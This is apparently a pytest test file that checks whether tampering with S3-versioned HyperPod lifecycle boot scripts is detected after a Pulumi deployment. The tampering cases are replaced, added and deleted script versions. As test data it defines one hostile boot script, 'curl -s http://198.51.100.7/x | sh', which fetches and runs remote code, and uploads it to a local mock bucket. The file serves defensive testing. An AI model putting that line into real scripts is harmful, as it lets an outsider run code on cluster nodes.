"""`preflight` and `verify --stack` list the S3 versions under the lifecycle scripts' prefix (a
local moto server, a versioned bucket per test) against the version of on_create.sh that
`pulumi up` wrote (the output lifecycleScriptVersionId): anything written since fails, even a
replaced script put back byte for byte, which the digest check passes."""

from __future__ import annotations

import boto3
import pytest
from botocore.stub import Stubber

from hyperpod_dpd.shared import boot_script
from hyperpod_dpd.shared.boot_script import Deployed
from hyperpod_dpd.shared.boot_versions import history
from specs.lifecycle import ON_CREATE_KEY, on_create_bytes, on_create_sha256

EVIL = b"#!/bin/bash\ncurl -s http://198.51.100.7/x | sh\n"


@pytest.fixture
def deployed(lifecycle_bucket) -> Deployed:
    bucket, version = lifecycle_bucket
    return Deployed("dev", bucket, on_create_sha256(), version_id=version)


def test_nothing_written_since_pulumi_up_passes(s3_client, deployed):
    v = history(s3_client, deployed)
    assert v.result == "pass", v
    assert f"version {deployed.version_id} of {ON_CREATE_KEY}" in v.detail


def test_a_script_replaced_then_put_back_fails_though_its_digest_passes(s3_client, deployed):
    evil = s3_client.put_object(Bucket=deployed.bucket, Key=ON_CREATE_KEY, Body=EVIL)
    back = s3_client.put_object(Bucket=deployed.bucket, Key=ON_CREATE_KEY, Body=on_create_bytes())
    assert boot_script.compare(s3_client, deployed).result == "pass"  # what S3 serves now
    v = history(s3_client, deployed)
    assert v.result == "FAIL"
    assert f"since `pulumi up` wrote version {deployed.version_id}" in v.detail
    assert evil["VersionId"] in v.detail and back["VersionId"] in v.detail
    assert "list-object-versions --bucket" in v.fix and "replace the nodes" in v.fix
    assert v.ref == "docs/troubleshooting.md#boot-script-changed"


def test_another_script_beside_it_fails(s3_client, deployed):
    """HyperPod fetches the scripts under SourceS3Uri: a file added there is a write too."""
    s3_client.put_object(Bucket=deployed.bucket, Key="lifecycle/helper.sh", Body=EVIL)
    v = history(s3_client, deployed)
    assert v.result == "FAIL" and "lifecycle/helper.sh version" in v.detail


def test_a_delete_marker_fails(s3_client, deployed):
    s3_client.delete_object(Bucket=deployed.bucket, Key=ON_CREATE_KEY)
    v = history(s3_client, deployed)
    assert v.result == "FAIL" and f"{ON_CREATE_KEY} delete marker" in v.detail


def test_the_version_pulumi_wrote_deleted_for_good_fails(s3_client, deployed):
    s3_client.delete_object(
        Bucket=deployed.bucket, Key=ON_CREATE_KEY, VersionId=deployed.version_id
    )
    v = history(s3_client, deployed)
    assert v.result == "FAIL" and "deleted for good" in v.detail


def test_objects_outside_the_scripts_prefix_do_not_count(s3_client, deployed):
    s3_client.put_object(Bucket=deployed.bucket, Key="notes/readme.txt", Body=b"x")
    assert history(s3_client, deployed).result == "pass"


def test_a_stack_that_recorded_no_version_is_not_compared_and_says_why(s3_client, deployed):
    v = history(s3_client, Deployed("dev", deployed.bucket, deployed.sha256))
    assert v.result == "skip" and "no lifecycleScriptVersionId" in v.detail


def test_a_caller_who_may_not_list_versions_is_told_the_permission():
    s3 = boto3.client("s3", region_name="us-east-2", aws_access_key_id="x",
                      aws_secret_access_key="x")  # fmt: skip
    with Stubber(s3) as stub:
        stub.add_client_error("list_object_versions", "AccessDenied")
        v = history(s3, Deployed("dev", "sagemaker-b", "0" * 64, version_id="v1"))
    assert v.result == "FAIL" and "s3:ListBucketVersions" in v.fix
